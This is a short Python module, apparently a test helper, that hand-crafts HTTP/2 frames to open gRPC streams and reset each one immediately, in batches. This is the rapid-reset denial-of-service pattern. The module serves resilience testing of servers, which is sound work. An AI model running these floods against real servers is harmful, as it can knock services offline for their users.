"""HTTP/2 by hand, for what no gRPC client sends: streams that are opened and reset at once."""

import socket
import struct
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS: Final = 1
RST_STREAM: Final = 3
SETTINGS: Final = 4
_ACK: Final = 1
_END_HEADERS: Final = 4
_CANCEL: Final = 8


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: str, value: str) -> bytes:
    """A header that is not kept in HPACK's table."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def opened_and_reset(stream: int, path: str) -> bytes:
    """A call of ``path``, and its cancellation right behind it."""
    headers = (
        literal(":method", "POST")
        + literal(":scheme", "http")
        + literal(":path", path)
        + literal(":authority", "hostile")
        + literal("te", "trailers")
        + literal("content-type", "application/grpc")
    )
    return frame(HEADERS, _END_HEADERS, stream, headers) + frame(
        RST_STREAM, 0, stream, struct.pack(">I", _CANCEL)
    )


class Http2Client:
    """One connection. A context manager."""

    def __init__(self, address: str, timeout_s: float) -> None:
        host, _, port = address.rpartition(":")
        self._socket = socket.create_connection((host, int(port)), timeout=timeout_s)
        self._socket.sendall(PREFACE + frame(SETTINGS, 0, 0, b"") + frame(SETTINGS, _ACK, 0, b""))
        self._next_stream = 1

    def __enter__(self) -> "Http2Client":
        return self

    def __exit__(self, *exc_info: object) -> None:
        self._socket.close()

    def reset_rapidly(self, times: int, path: str) -> bool:
        """Open and reset so many streams; False if the server has closed the connection."""
        data = bytearray()
        for _ in range(times):
            data += opened_and_reset(self._next_stream, path)
            self._next_stream += 2
        try:
            self._socket.sendall(data)
        except OSError:
            return False
        return True
